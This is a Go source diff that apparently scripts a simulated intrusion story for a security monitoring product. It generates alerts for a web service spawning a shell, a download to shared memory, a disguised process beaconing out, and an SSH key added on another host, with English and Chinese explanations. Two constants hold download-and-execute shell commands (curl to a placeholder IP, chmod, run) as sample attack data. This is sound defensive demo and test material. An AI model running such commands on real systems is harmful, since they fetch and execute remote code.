@@ -1,0 +1,102 @@
+package story
+
+import (
+	"time"
+
+	"baize/internal/alert"
+	"baize/internal/event"
+	"baize/internal/incident"
+)
+
+func tactic(title, level, technique string, tactics ...string) alert.Rule {
+	return alert.Rule{ID: "story-" + technique, Title: title, Level: level, Tactics: tactics, Techniques: []string{technique}}
+}
+
+var (
+	spawned    = tactic("Web service spawned a shell", "high", "T1059.004", "execution")
+	downloaded = tactic("Download to shared memory", "high", "T1105", "command-and-control")
+	executed   = tactic("Program executed from shared memory", "critical", "T1620", "defense-evasion")
+	disguised  = tactic("Process disguised as a kernel thread", "critical", "T1036.004", "defense-evasion")
+	calledOut  = tactic("Connection to the outside from shared memory", "critical", "T1071.001", "command-and-control")
+	keyAdded   = tactic("SSH key added", "medium", "T1098.004", "persistence")
+)
+
+const (
+	firstCommand  = "curl http://203.0.113.9/t -o /dev/shm/kworker; chmod +x /dev/shm/kworker; /dev/shm/kworker"
+	secondCommand = "curl http://198.51.100.77/d -o /dev/shm/databus00000000017; chmod +x /dev/shm/databus00000000017; /dev/shm/databus00000000017"
+)
+
+func sameLineage() incident.Reason {
+	return incident.Reason{Reason: "same_lineage", Entity: "web_shell", Weight: 1}
+}
+
+// firstRound : download, execution, disguise, beacon.
+func (n *narrator) firstRound() {
+	shell := n.shell(31007, 0, firstCommand)
+	n.tell(raise("a-0001", n.observed(event.ProcessExec, 0, shell), spawned,
+		alert.Entity{Type: alert.EntityCommand, Value: shell.CommandLine}, alert.Entity{Type: alert.EntityContainer, Value: container.ID}),
+		incident.Reason{}, "The web service java (shop-api) on web-1 ran a shell.", "web-1 上的 Web 服务 java(shop-api)启动了 shell。")
+
+	curl := n.actor(key(WebHost, 31009, 7200), 40*time.Millisecond, "/usr/bin/curl", "curl http://203.0.113.9/t -o /dev/shm/kworker", shell)
+	e := connectTo(n.observed(event.NetworkConnect, 60*time.Millisecond, curl), "203.0.113.9", 80)
+	n.tell(raise("a-0002", e, downloaded, alert.Entity{Type: alert.EntityIP, Value: "203.0.113.9", Port: 80, Role: "destination"}, alert.Entity{Type: alert.EntityFile, Value: WebHost + ":/dev/shm/kworker"}),
+		sameLineage(), "The web service java (shop-api) on web-1 ran a shell, which fetched /dev/shm/kworker from 203.0.113.9.", "web-1 上的 Web 服务启动 shell,从 203.0.113.9 下载 /dev/shm/kworker。")
+
+	trojan := n.trojan(31015, 800*time.Millisecond, "/dev/shm/kworker", shell)
+	n.tell(raise("a-0003", n.observed(event.ProcessExec, 820*time.Millisecond, trojan), executed, alert.Entity{Type: alert.EntityHash, Value: "sha256:" + trojan.Hash.SHA256}),
+		sameLineage(), "It then executed /dev/shm/kworker from shared memory.", "随后从共享内存执行 /dev/shm/kworker。")
+
+	masked := *trojan
+	masked.OldCommandLine, masked.CommandLine = trojan.CommandLine, "[kworker/14:1]"
+	n.tell(raise("a-0004", n.observed(event.ProcessRename, 900*time.Millisecond, &masked), disguised),
+		sameLineage(), "The trojan retitled itself [kworker/14:1], though no kernel thread.", "木马将自身改名为 [kworker/14:1],但并非内核线程。")
+
+	beacon := raise("a-0005", connectTo(n.observed(event.NetworkConnect, 1500*time.Millisecond, &masked), "203.0.113.40", 443), calledOut,
+		alert.Entity{Type: alert.EntityIP, Value: "203.0.113.40", Port: 443, Role: "destination"})
+	n.tell(beacon, sameLineage(), "It connects to 203.0.113.40:443.", "并连接 203.0.113.40:443。")
+	beacon.Revision, beacon.Count, beacon.Last = 2, 17, n.start.Add(90*time.Second)
+	beacon.Incident = Intrusion
+	n.steps = append(n.steps, Step{Alerts: []alert.Alert{beacon}})
+}
+
+func (n *narrator) trojan(pid uint32, offset time.Duration, path string, shell *event.Process) *event.Process {
+	p := n.actor(key(WebHost, pid, 7201+uint64(offset/time.Second)), offset, path, path, shell)
+	p.Exec = 1
+	p.Exe = &event.Image{Tmpfs: true}
+	p.Hash = &event.Hash{SHA256: "5feceb66ffc86f38d952786c6d696c79c2dbc239dd4e91b46729d73a27fb57e9", State: event.HashOK}
+	return p
+}
+
+// otherHost : a finding that has nothing to do with the intrusion.
+func (n *narrator) otherHost() {
+	login := n.actor(key(DatabaseHost, 880, 40), 2*time.Minute, "/usr/bin/bash", "-bash", nil)
+	login.User = &event.User{ID: 0, Name: "root"}
+	login.Context = &event.Context{ID: "login:" + login.Key.String(), Kind: event.ContextLogin, Root: login.Key}
+	e := n.observed(event.FileCloseWrite, 2*time.Minute, login)
+	e.Host, e.Container = databaseHost, nil
+	e.File = &event.File{Path: "/root/.ssh/authorized_keys", Size: 412, Mode: "0600", Mount: "ext4", Sensitive: "ssh_key"}
+	a := raise("a-0006", e, keyAdded, alert.Entity{Type: alert.EntityFile, Value: DatabaseHost + ":/root/.ssh/authorized_keys"}, alert.Entity{Type: alert.EntityAccount, Value: "root"})
+	a.Incident = KeyFinding
+	inc := incident.Incident{
+		ID: KeyFinding, Revision: 1, Org: "default", Opened: a.Time, Updated: a.Time, Status: incident.StatusOpen,
+		Level: "medium", Score: 35, Title: "SSH key added on db-1", Count: 1,
+		Account: "In a login session on db-1, root changed /root/.ssh/authorized_keys.", AccountZH: "db-1 的登录会话中,root 修改了 /root/.ssh/authorized_keys。",
+		Hosts: []event.Host{databaseHost}, Alerts: []string{a.ID}, Entities: a.Entities, Reasons: []incident.Reason{}, Tactics: a.Rule.Tactics,
+	}
+	n.steps = append(n.steps, Step{Alerts: []alert.Alert{a}, Incidents: []incident.Incident{inc}})
+}
+
+// secondRound : another name, hash and address, the same way in.
+func (n *narrator) secondRound() {
+	again := incident.Reason{Reason: "same_service", Entity: n.service().Context.ID, Weight: 0.8}
+	shell := n.shell(40221, 10*time.Minute, secondCommand)
+	n.tell(raise("a-0007", n.observed(event.ProcessExec, 10*time.Minute, shell), spawned, alert.Entity{Type: alert.EntityCommand, Value: shell.CommandLine}),
+		again, "Ten minutes later the same service ran a shell again.", "十分钟后,同一服务再次启动 shell。")
+	trojan := n.trojan(40230, 10*time.Minute+time.Second, "/dev/shm/databus00000000017", shell)
+	trojan.Hash.SHA256 = "6b86b273ff34fce19d6b804eff5a3f5747ada4eaa22f1d49c01e52ddb7875b4b"
+	n.tell(raise("a-0008", n.observed(event.ProcessExec, 10*time.Minute+time.Second, trojan), executed, alert.Entity{Type: alert.EntityHash, Value: "sha256:" + trojan.Hash.SHA256}),
+		again, "It executed /dev/shm/databus00000000017 from shared memory.", "从共享内存执行 /dev/shm/databus00000000017。")
+	e := connectTo(n.observed(event.NetworkConnect, 10*time.Minute+2*time.Second, trojan), "198.51.100.77", 8443)
+	n.tell(raise("a-0009", e, calledOut, alert.Entity{Type: alert.EntityIP, Value: "198.51.100.77", Port: 8443, Role: "destination"}),
+		again, "The second trojan connects to 198.51.100.77:8443: name, hash and address changed, the way in did not.", "第二个木马连接 198.51.100.77:8443:名称、哈希与地址均已更换,入口未变。")
+}
